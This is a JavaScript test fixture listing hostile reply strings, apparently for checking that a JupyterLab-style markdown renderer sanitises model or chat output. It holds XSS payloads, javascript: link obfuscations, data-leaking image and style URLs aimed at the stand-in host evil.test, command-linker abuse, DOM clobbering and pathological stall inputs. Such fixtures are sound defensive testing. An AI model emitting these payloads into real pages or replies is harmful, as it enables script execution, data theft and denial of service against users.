/**
 * Replies that try to run code, to send data out, to look like the page, or to stall it.
 */
const HTML = [
  '<script>window.__pwn=1</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="https://evil.test"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.test/x.swf"></object>',
  '<embed src="https://evil.test/x">',
  '<form action="https://evil.test"><input name=token></form>',
  '<button data-commandlinker-command="notebook:restart-run-all">Show</button>',
  '<a data-commandlinker-command="apputils:reset" href="#">go</a>',
  '<div data-commandlinker-args="{}" onclick="alert(1)">x</div>',
  '<a id="MathJax" href="https://evil.test">x</a>',
  '<a name="config">x</a>',
  '<style>body{background:url(https://evil.test)}</style>',
  '<p style="background-image:url(https://evil.test/?q=1)">x</p>',
  '<link rel=stylesheet href=https://evil.test/a.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.test">',
  '<base href="https://evil.test/">',
  '<video poster=https://evil.test/p src=https://evil.test/v></video>',
  '<audio src=https://evil.test/a autoplay></audio>',
  '<img srcset="https://evil.test/1x 1x">',
  '<picture><source srcset=https://evil.test/s></picture>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<body onload=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<img/src="x"/onerror=alert(1)>',
  '**<b onmouseover=alert(1)>bold</b>**',
  '| <img src=x onerror=alert(1)> |\n| --- |\n| <script>1</script> |',
  '- <li onclick=alert(1)>x',
  '# <h1 id=main>x</h1>'
];

const ADDRESSES = [
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](<java\nscript:alert(1)>)',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](blob:https://evil.test/1)',
  '[x](//evil.test/a)',
  '[x](/lab/api/contents)',
  '[x](https://evil.test/\u202Egpj.exe)',
  '[x](https://user:pass@evil.test/)',
  '[x](https://evil.test "onmouseover=alert(1)")',
  '[x](https://evil.test/"onclick="alert(1))',
  '<javascript:alert(1)>',
  '<https://evil.test/?q=data>',
  'https://evil.test/?q=data',
  '[x]: javascript:alert(1)\n\n[x]',
  '![x](https://evil.test/?q=df.head)',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '[![x](https://evil.test/i.png)](https://evil.test)',
  '![x][i]\n\n[i]: https://evil.test/i.png'
];

const FENCES = [
  '```mermaid\ngraph TD; click A "javascript:alert(1)"\n```',
  '```html\n<script>alert(1)</script>\n```',
  '```svg\n<svg onload=alert(1)>\n```',
  '```python" onclick="alert(1)\nx\n```',
  '```<img src=x onerror=alert(1)>\nx\n```',
  '`<img src=x onerror=alert(1)>`',
  '$\\href{javascript:alert(1)}{x}$',
  '$$\\class{jp-mod-accept}{x}$$'
];

const STALLS = [
  '>'.repeat(20_000),
  '['.repeat(20_000),
  '*'.repeat(20_000) + 'a',
  '`'.repeat(20_000),
  '<'.repeat(20_000),
  `${'- '.repeat(5_000)}x`,
  `${'a*b_'.repeat(10_000)}`,
  `|${'a|'.repeat(5_000)}\n|${'-|'.repeat(5_000)}\n`,
  `${'![a]('.repeat(5_000)}`,
  'x'.repeat(200_000)
];

export const HOSTILE = [...HTML, ...ADDRESSES, ...FENCES, ...STALLS];
